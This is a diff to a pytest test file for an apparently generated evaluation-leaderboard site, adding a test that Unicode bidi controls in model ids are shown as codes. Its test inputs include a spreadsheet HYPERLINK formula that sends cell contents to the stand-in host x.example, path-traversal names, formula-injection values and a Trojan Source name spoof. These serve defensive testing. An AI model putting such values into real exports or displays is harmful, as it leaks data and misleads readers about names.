@@ -13,7 +13,8 @@ import pytest
 from tests.conftest import evalsuite
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
-NAMES = [FORMULA, "../../escaped", "/", "..", "a" * 300, "模型/../é", "@SUM(A1)", "-2+3", "+cmd"]
+SPOOF = "org/gpt-5\u202e\u2066lam"  # shown raw, the override reads "org/gpt-5mal": the tail reversed
+NAMES = [FORMULA, "../../escaped", "/", "..", "a" * 300, "模型/../é", "@SUM(A1)", "-2+3", "+cmd", SPOOF]
 
 
 @pytest.fixture(scope="module")
@@ -74,3 +75,15 @@ def test_a_run_on_fewer_items_is_flagged_in_its_column(data_dir, tmp_path):
     assert len(flagged) == 1 and "limit: 1 (most: 3)" in flagged[0].split('"')[0]
     start = index.index('data-model="org/c"')
     assert 'class="deviates"' in index[start:index.index("</tr>", start)]
+
+
+def test_bidi_controls_in_names_show_as_codes_not_as_reordered_text(site):
+    # A right-to-left override in a model id made the page show another name than
+    # the id (Trojan Source, CVE-2021-42574); the site shows each control as a code.
+    pages = [site / "index.html", *(site / "models").glob("*.html")]
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), page
+    assert "org/gpt-5[U+202E][U+2066]lam" in (site / "index.html").read_text(encoding="utf-8")
+    rows = list(csv.DictReader((site / "leaderboard.csv").open(encoding="utf-8")))
+    assert SPOOF in {r["model"] for r in rows}  # the data keeps the id as it is
